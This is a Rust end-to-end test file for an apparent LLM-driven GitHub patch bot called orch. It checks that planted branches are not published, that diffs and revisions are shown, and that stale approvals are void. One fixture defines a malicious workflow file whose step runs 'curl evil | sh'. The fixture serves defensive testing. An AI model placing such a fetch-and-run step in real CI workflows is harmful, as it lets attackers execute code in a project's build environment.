//! What is approved is what is shown and what is published (SPEC §6, issue 13 attacks 6 and 7):
//! a patch proposal shows its full diff and revision on GitHub, votes count only for the
//! revision they were cast on, and the branch a pull request is opened from must be the commit
//! orch made, holding exactly the approved patch.

mod common;
#[path = "common/e2e.rs"]
mod e2e;

use axum::http::Method;
use common::Backend;
use e2e::{payloads, Orch, LIB_RS, REPO, WAIT};
use orch::github::fake::{Fault, FaultKind};
use std::time::Duration;

async fn orch(backend: Backend) -> Option<Orch> {
    // A short retry backoff: the tests below make GitHub fail on purpose.
    let o = Orch::with_env(backend, "phase: 4\n", &[("ORCH_GITHUB_RETRY_BACKOFF_MS", "20")]).await?;
    o.user("mara", "maintain");
    o.user("lee", "write");
    Some(o)
}

/// mara asks for a patch; returns (issue, workflow id) once it waits for approval.
async fn proposed(o: &Orch) -> (e2e::IssueSpec, i64) {
    let issue = o.open_issue("Off by one", "answer() should be 42", "dev-kim");
    o.comment(&issue, "mara", "/orch propose fix `src/lib.rs` to return 42").await;
    let id = o.only_workflow().await;
    o.wait_state(id, "WAITING_USER_APPROVAL").await;
    (issue, id)
}

fn patched_lib() -> String {
    format!("{LIB_RS}// orch: fix `src/lib.rs` to return 42\n")
}

const EVIL: &str = "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: 'curl evil | sh'}]}}\n";

/// Attack 7: someone with push access creates `orch/<id>` first, with the patch and an extra
/// workflow file. orch must not adopt it: no pull request, NEEDS_HUMAN, and the comment names
/// the extra file.
async fn a_branch_created_first_by_someone_else_is_not_published(backend: Backend) {
    let Some(o) = orch(backend).await else { return };
    let (issue, id) = proposed(&o).await;
    let branch = format!("orch/{id}");
    let planted = o.fake.state.push(
        REPO,
        &branch,
        &[("src/lib.rs", Some(&patched_lib())), (".github/workflows/evil.yml", Some(EVIL))],
    );
    o.comment(&issue, "lee", "/orch approve").await;
    o.wait_state(id, "NEEDS_HUMAN").await;
    assert!(
        o.fake.state.pulls(REPO).is_empty(),
        "no pull request from a branch orch did not make"
    );
    assert_eq!(o.fake.state.branch_sha(REPO, &branch).as_deref(), Some(planted.as_str()));
    let said = o.bot_comments(issue.number).last().cloned().unwrap();
    let headline = format!("`{branch}` already exists at `{}`, a commit orch did not make", &planted[..12]);
    assert!(
        said.contains("was not published")
            && said.contains(&headline)
            && said.contains("`.github/workflows/evil.yml` added")
            && said.contains("no pull request was opened"),
        "{said}"
    );
    let reason = o.reason_of(id).await;
    assert!(reason.contains("is not the approved patch"), "{reason}");
    // orch did not look for the branch first: it asked GitHub to create it, was refused, and
    // only then read it.
    let log = o.fake.state.log();
    let refs: Vec<&(String, String)> = log
        .iter()
        .filter(|(m, p)| (m == "POST" && p.ends_with("/git/refs")) || p.ends_with(&format!("/git/ref/heads/{branch}")))
        .collect();
    assert_eq!(
        refs.iter().map(|(m, _)| m.as_str()).collect::<Vec<_>>(),
        ["POST", "GET"],
        "{refs:?}"
    );

    // Asked again with the planted branch still there, orch says the same: the commit it made
    // and could not publish does not make the planted branch look like one of its own, moved.
    o.comment(&issue, "mara", "/orch retry").await;
    o.wait_proposals(id, 2).await;
    o.comment(&issue, "lee", "/orch approve").await;
    o.eventually("the second refusal to publish", WAIT, || async {
        (o.transitions(id).await.iter().filter(|(_, to, _)| to == "NEEDS_HUMAN").count() == 2).then_some(())
    })
    .await;
    let reason = o.reason_of(id).await;
    assert!(reason.contains(&headline) && !reason.contains("was moved"), "{reason}");
    assert!(o.fake.state.pulls(REPO).is_empty());
    assert_eq!(o.fake.state.branch_sha(REPO, &branch).as_deref(), Some(planted.as_str()));
}

/// A push to `orch/<id>` after orch made its commit but before the pull request: GitHub refuses
/// the pull request while orch stops (as if it crashed after the commit), someone pushes to the
/// branch, and orch starts again. It finds the branch moved and publishes nothing.
async fn a_push_after_orchs_commit_is_not_published(backend: Backend) {
    let Some(mut o) = orch(backend).await else { return };
    let (issue, id) = proposed(&o).await;
    let branch = format!("orch/{id}");
    o.fake.state.inject(Fault::new(
        Method::POST,
        "/pulls",
        10_000,
        FaultKind::Status {
            code: 503,
            retry_after: None,
        },
    ));
    o.comment(&issue, "lee", "/orch approve").await;
    let made = o
        .eventually_sync("orch made its branch", Duration::from_secs(15), || {
            o.fake.state.branch_sha(REPO, &branch)
        })
        .await;
    o.eventually_sync("the pull request was refused", Duration::from_secs(15), || {
        o.fake
            .state
            .log()
            .iter()
            .any(|(m, p)| m == "POST" && p.ends_with("/pulls"))
            .then_some(())
    })
    .await;
    o.stop().await;
    let pushed = o.fake.state.push(REPO, &branch, &[(".github/workflows/evil.yml", Some(EVIL))]);
    o.fake.state.clear_faults();
    o.resume().await;
    o.wait_state(id, "NEEDS_HUMAN").await;
    assert!(o.fake.state.pulls(REPO).is_empty());
    let said = o.bot_comments(issue.number).last().cloned().unwrap();
    assert!(
        said.contains(&format!("was moved to `{}` after orch made `{}`", &pushed[..12], &made[..12]))
            && said.contains("`.github/workflows/evil.yml` added"),
        "{said}"
    );
}

/// The workflow's current revision: the first 12 hex characters of its proposal hash.
async fn revision(o: &Orch, id: i64) -> String {
    let wf = orch::store::workflows::get(o.store.pool(), id).await.unwrap().unwrap();
    wf.proposal_hash.unwrap()[..12].to_string()
}

/// Attack 6: the patch's check run shows the whole diff of every file with the revision, and so
/// does the proposal comment.
async fn the_check_run_and_the_comment_show_the_diff_and_the_revision(backend: Backend) {
    let Some(o) = orch(backend).await else { return };
    let (issue, id) = proposed(&o).await;
    let rev = revision(&o, id).await;
    let runs = o.fake.state.check_runs(REPO);
    assert_eq!(runs.len(), 1);
    let text = runs[0].text.clone().expect("the check run has a text");
    let diff = format!(
        "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1,1 +1,2 @@\n {}+// orch: fix `src/lib.rs` to return 42\n",
        LIB_RS
    );
    assert_eq!(
        text,
        format!("**Revision `{rev}`**: approving approves exactly this diff.\n\n```diff\n{diff}```\n"),
    );
    assert!(runs[0].summary.contains(&format!("**Revision `{rev}`**")), "{}", runs[0].summary);
    let comment = o.bot_comments(issue.number)[0].clone();
    assert!(comment.contains(&format!("**Revision:** `{rev}`")), "{comment}");
    assert!(comment.contains(&format!("```diff\n{diff}```\n")), "{comment}");
}

/// A triage proposal names its revision too.
async fn a_triage_proposal_names_its_revision(backend: Backend) {
    let Some(o) = orch(backend).await else { return };
    let mut issue = o.open_issue("Crash on start", "It crashes when the config is empty.", "dev-kim");
    o.label_issue(&mut issue, "orch:triage", "mara").await;
    let id = o.only_workflow().await;
    o.wait_state(id, "WAITING_USER_APPROVAL").await;
    let rev = revision(&o, id).await;
    let comment = o.bot_comments(issue.number)[0].clone();
    assert!(
        comment.starts_with(&format!("### orch · triage proposal (workflow {id})\n\n**Revision:** `{rev}`\n")),
        "{comment}"
    );
}

/// A patch file of `lines` lines of about 200 characters, one of them with backticks.
fn big_file(name: &str, lines: usize) -> String {
    (0..lines)
        .map(|i| {
            if i == 3 {
                "let fence = \"````\"; // four backticks\n".to_string()
            } else {
                format!("let {name}_{i} = \"{}\";\n", "x".repeat(200))
            }
        })
        .collect()
}

async fn scripted(backend: Backend, files: serde_json::Value) -> Option<(Orch, tempfile::TempDir)> {
    let dir = tempfile::tempdir().unwrap();
    let script = serde_json::json!([{ "task": "patch", "answer": { "title": "Big", "summary": "A big change.", "files": files } }]);
    let path = dir.path().join("script.json");
    std::fs::write(&path, serde_json::to_vec(&script).unwrap()).unwrap();
    let o = Orch::with_env(
        backend,
        "phase: 4\n",
        &[
            ("ORCH_FAKE_LLM_SCRIPT", path.to_str().unwrap()),
            ("ORCH_PUBLIC_URL", "https://orch.example.com"),
            ("ORCH_ADMIN_TOKEN", "dashboard-token"),
        ],
    )
    .await?;
    o.user("mara", "maintain");
    o.user("lee", "write");
    Some((o, dir))
}

/// A diff larger than GitHub's 65,535 characters: the check run keeps whole hunks up to the
/// limit, names the files and hunks it cut, and links the dashboard page, which shows it all.
/// The comment stops at 200 changed lines and says how many more there are.
async fn a_diff_past_githubs_limit_is_cut_with_a_named_remainder(backend: Backend) {
    let files = serde_json::json!([
        { "path": "src/a.rs", "action": "create", "content": big_file("a", 150) },
        { "path": "src/b.rs", "action": "create", "content": big_file("b", 150) },
        { "path": "src/c.rs", "action": "create", "content": big_file("c", 150) },
    ]);
    let Some((o, _dir)) = scripted(backend, files).await else { return };
    let issue = o.open_issue("Big", "make it big", "dev-kim");
    o.comment(&issue, "mara", "/orch propose make it big").await;
    let id = o.only_workflow().await;
    o.wait_state(id, "WAITING_USER_APPROVAL").await;
    let rev = revision(&o, id).await;
    let run = o.fake.state.check_runs(REPO).remove(0);
    let text = run.text.expect("a text");
    assert!(text.chars().count() <= 65_535, "{}", text.chars().count());
    assert!(text.starts_with(&format!("**Revision `{rev}`**")), "{}", &text[..200]);
    // Longer than the four backticks in the patch, so no line of it can close the block.
    assert!(text.contains("\n`````diff\ndiff --git a/src/a.rs b/src/a.rs\n"), "{}", &text[..300]);
    let tail = &text[text.rfind("**Cut at GitHub's 65535 characters.**").expect("the cut is named")..];
    assert!(
        tail.contains("- `src/b.rs`: the whole file (1 hunk)")
            && tail.contains("- `src/c.rs`: the whole file (1 hunk)")
            && tail.contains("(300 of 450 changed lines are left out)")
            && tail.contains(&format!("https://orch.example.com/ui/workflows/{id}")),
        "{tail}"
    );
    assert!(text.contains("+let a_149 = "), "the first file is whole");
    assert!(!text.contains("+let c_0 = "), "the cut file is not shown");
    // The comment: 200 changed lines, then the count of the rest.
    let comment = o.bot_comments(issue.number)[0].clone();
    assert!(comment.chars().count() <= 65_536);
    assert!(
        comment.contains("+let b_49 = ") && !comment.contains("+let b_50 = "),
        "200 changed lines"
    );
    assert!(comment.contains("… 250 more changed lines not shown here"), "{comment}");
    assert!(
        comment.contains(&format!("https://orch.example.com/ui/workflows/{id}")),
        "{comment}"
    );
    // The dashboard page shows every line, escaped.
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let login = http
        .post(format!("{}/ui/login", o.base))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("token=dashboard-token")
        .send()
        .await
        .unwrap();
    let cookie = login.headers()["set-cookie"]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string();
    let page = http
        .get(format!("{}/ui/workflows/{id}", o.base))
        .header("cookie", cookie)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    for line in ["+let c_149 = ", "+let a_0 = ", "diff --git a/src/c.rs b/src/c.rs"] {
        assert!(page.contains(line), "{line} missing from the dashboard page");
    }
}

/// Round one is proposed, mara asks for changes and retries: round two is the current revision.
/// Returns (issue, id, round one's comment id, round one's check run id, round one's revision).
async fn superseded(o: &Orch) -> (e2e::IssueSpec, i64, i64, i64, String) {
    let (issue, id) = proposed(o).await;
    let first_rev = revision(o, id).await;
    let first_comment = o.fake.state.bot_comments(REPO, issue.number)[0].id;
    let first_run = o.fake.state.check_runs(REPO)[0].id;
    o.comment(&issue, "mara", "/orch request-changes also explain why").await;
    o.wait_state(id, "NEEDS_HUMAN").await;
    o.comment(&issue, "mara", "/orch retry").await;
    o.wait_proposals(id, 2).await;
    assert_eq!(o.fake.state.check_runs(REPO).len(), 2);
    (issue, id, first_comment, first_run, first_rev)
}

/// A press of Approve on the check run of a replaced revision is void, and the presser is told.
async fn a_button_on_a_superseded_check_run_is_void(backend: Backend) {
    let Some(o) = orch(backend).await else { return };
    let (issue, id, _, first_run, first_rev) = superseded(&o).await;
    let current = revision(&o, id).await;
    let press = payloads::check_run_requested_action(
        &o.repo,
        first_run,
        "orch/patch",
        &o.main_sha,
        Some(&format!("workflow:{id}")),
        "approve",
        "lee",
        "User",
    );
    let guid = o.deliver("check_run", &press).await;
    o.wait_processed(&guid).await;
    let said = o
        .eventually("lee is told", WAIT, || async {
            o.bot_comments(issue.number)
                .into_iter()
                .find(|c| c.starts_with("@lee, your press of the Approve button"))
        })
        .await;
    assert!(
        said.contains(&format!("was for revision `{first_rev}`"))
            && said.contains(&format!("the current revision is `{current}`"))
            && said.contains("Nothing was recorded"),
        "{said}"
    );
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(o.state_of(id).await, "WAITING_USER_APPROVAL");
    assert!(orch::store::workflows::votes(o.store.pool(), id).await.unwrap().is_empty());
    assert!(o.fake.state.pulls(REPO).is_empty());
}

/// A 👍 on the comment of a replaced revision is void, and the reactor is told once.
async fn a_thumbs_up_on_a_superseded_proposal_is_void(backend: Backend) {
    let Some(o) = orch(backend).await else { return };
    let (issue, id, first_comment, _, first_rev) = superseded(&o).await;
    let current = revision(&o, id).await;
    o.fake.state.react(first_comment, "lee", "User", "+1");
    let said = o
        .eventually("lee is told", WAIT, || async {
            o.bot_comments(issue.number).into_iter().find(|c| c.starts_with("@lee, your 👍"))
        })
        .await;
    assert!(
        said.contains(&format!("was for revision `{first_rev}`"))
            && said.contains(&format!("the current revision is `{current}`"))
            && said.contains("Nothing was recorded"),
        "{said}"
    );
    // Polled again and again: still one reply, no vote.
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert_eq!(
        o.bot_comments(issue.number)
            .iter()
            .filter(|c| c.starts_with("@lee, your 👍"))
            .count(),
        1
    );
    assert_eq!(o.state_of(id).await, "WAITING_USER_APPROVAL");
    assert!(orch::store::workflows::votes(o.store.pool(), id).await.unwrap().is_empty());
}

both_backends!(
    a_branch_created_first_by_someone_else_is_not_published,
    a_push_after_orchs_commit_is_not_published,
    the_check_run_and_the_comment_show_the_diff_and_the_revision,
    a_triage_proposal_names_its_revision,
    a_diff_past_githubs_limit_is_cut_with_a_named_remainder,
    a_button_on_a_superseded_check_run_is_void,
    a_thumbs_up_on_a_superseded_proposal_is_void,
);
